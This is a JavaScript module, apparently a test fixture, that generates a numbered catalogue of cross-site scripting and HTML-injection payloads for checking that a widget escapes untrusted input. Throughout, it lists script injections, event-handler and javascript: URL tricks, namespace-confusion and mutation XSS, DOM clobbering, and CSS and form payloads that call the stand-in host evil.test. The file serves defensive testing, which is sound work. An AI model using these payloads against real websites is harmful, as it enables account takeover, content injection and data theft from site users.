// Hostile strings, each written to run `top.__pwn(id)`, open a dialog, navigate, or reach
// https://evil.test if the widget ever let it act. `$ID` becomes the payload's number.
// Families: script, event handlers, URL schemes (also entity-encoded and split by
// whitespace), SVG and MathML namespace confusion, meta refresh and base, forms, frames
// and srcdoc, CSS that loads or overlays, DOM clobbering, mutation XSS, template and
// markdown look-alikes, and text that only looks like markup.

const run = "top.__pwn($ID)";
const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java&#x09;script:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${run}`,
  `javascript&colon;${run}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuX19wd24oMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload="${run}"/>`,
  `vbscript:msgbox($ID)`,
  `VBSCRIPT:msgbox($ID)`,
  `\u0001javascript:${run}`,
  `jav&#x0A;ascript:${run}`,
  `javascript://%0a${run}`,
];

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src="https://evil.test/$ID.js"></script>`,
  `<script/src="data:text/javascript,${run}"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</script><script>${run}</script>`,
  `<script type="module">${run}</script>`,
  `<script>alert($ID)</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
];

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src="x" onerror=${run}>`,
  `<IMG SRC=x ONERROR=${run}>`,
  `<img src=x onerror=alert($ID)>`,
  `<svg onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div onmouseover=${run} style="position:absolute;inset:0">x</div>`,
  `<a onclick=${run}>click</a>`,
  `<iframe onload=${run}></iframe>`,
  `<style onload=${run}></style>`,
  `<object data=x onerror=${run}></object>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=$ID>`,
  `<img/src/onerror=${run}>`,
  `<img src=x onerror\t=${run}>`,
  `<img src=x onerror\n=${run}>`,
  `<img src=x on\u0000error=${run}>`,
  `" onmouseover="${run}`,
  `' onfocus='${run}' autofocus='`,
  `<x contenteditable onblur=${run}>x`,
  `<form><button formaction=javascript:${run}>x</button></form>`,
];

const urls = schemes.flatMap((url) => [
  `<a href="${url}">click</a>`,
  `<iframe src="${url}"></iframe>`,
]).concat([
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<math href="javascript:${run}">click</math>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>click</text></a></svg>`,
  `<isindex action=javascript:${run} type=image>`,
  `<a href="&#1;javascript:${run}">x</a>`,
]);

const namespaces = [
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><foreignObject><script>${run}</script></foreignObject></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg><set attributeName=href to="javascript:${run}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
];

const documents = [
  `<meta http-equiv="refresh" content="0;url=https://evil.test/$ID">`,
  `<META HTTP-EQUIV="Refresh" CONTENT="0; URL=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="https://evil.test/$ID/">`,
  `<base href="javascript:${run}//">`,
  `<form action="https://evil.test/$ID"><input name=q value=x><button>Go</button></form>`,
  `<form id=f action="https://evil.test/$ID"></form><button form=f>Go</button>`,
  `<iframe src="https://evil.test/$ID"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="<iframe srcdoc='<script>${run}</script>'></iframe>"></iframe>`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<link rel=stylesheet href="https://evil.test/$ID.css">`,
  `<link rel=prefetch href="https://evil.test/$ID">`,
  `<link rel=import href="https://evil.test/$ID.html">`,
  `<portal src="https://evil.test/$ID"></portal>`,
  `<object data="https://evil.test/$ID.swf"></object>`,
  `<embed src="https://evil.test/$ID.swf">`,
  `<img src="https://evil.test/$ID.png">`,
  `<img srcset="https://evil.test/$ID.png 1x">`,
  `<picture><source srcset="https://evil.test/$ID.png"><img></picture>`,
  `<video poster="https://evil.test/$ID.png"></video>`,
  `<a ping="https://evil.test/$ID" href="#">x</a>`,
];

const css = [
  `<style>@import url(https://evil.test/$ID.css);</style>`,
  `<style>*{background:url(https://evil.test/$ID.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(https://evil.test/$ID.woff)}*{font-family:x}</style>`,
  `<div style="background:url(https://evil.test/$ID.png)">x</div>`,
  `<div style="background-image:url('javascript:${run}')">x</div>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">overlay</div>`,
  `<div style="position:absolute;top:-9999px">hidden</div>`,
  `<style>body{display:none}</style>`,
  `<style>.ksw-root{display:none!important}</style>`,
  `<div style="behavior:url(https://evil.test/$ID.htc)">x</div>`,
  `<div style="width:expression(${run})">x</div>`,
  `<div style="-moz-binding:url(https://evil.test/$ID.xml#x)">x</div>`,
  `<style>input[value^=a]{background:url(https://evil.test/$ID/a)}</style>`,
];

const clobbering = [
  `<form id=createElement></form>`,
  `<img name=createElement>`,
  `<form name=attributes><input name=attributes></form>`,
  `<img name=getElementById>`,
  `<a id=defaultView href="https://evil.test/$ID">x</a>`,
  `<form name=body></form>`,
  `<img name=cookie>`,
  `<a id=__pwn></a>`,
  `<form id=location></form>`,
  `<img id=querySelector name=querySelector>`,
  `<embed name=shadowRoot>`,
  `<form><input name=nodeName><input name=parentNode></form>`,
  `<a id=x><a id=x name=y href="https://evil.test/$ID">`,
];

const mutation = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<xmp></xmp><img src=x onerror=${run}>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<template><script>${run}</script></template>`,
  `<textarea></textarea><img src=x onerror=${run}>`,
  `<title></title><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<table><td><img src=x onerror=${run}></td></table>`,
  `<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;${run}">x</a>`,
  `<img alt="&quot;&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<style><style/><img src=x onerror=${run}>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
];

const lookalikes = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `{{7*7}} {% raw %} <%= 7*7 %>`,
  `[click](javascript:${run})`,
  `![x](https://evil.test/$ID.png)`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<<script>script>${run}<</script>/script>`,
  `\u202Egpj.exe`,
  `\u0000<script>${run}</script>`,
  `💥<img src=x onerror=${run}>💥`,
  `${"A".repeat(2000)}<img src=x onerror=${run}>`,
];

export const families = { scripts, handlers, urls, namespaces, documents, css, clobbering, mutation, lookalikes };

/** Every payload, numbered from 1, with its family. */
export const payloads = Object.entries(families).flatMap(([family, list]) => list.map((text) => ({ family, text })))
  .map(({ family, text }, index) => ({ id: index + 1, family, text: text.replaceAll("$ID", String(index + 1)) }));
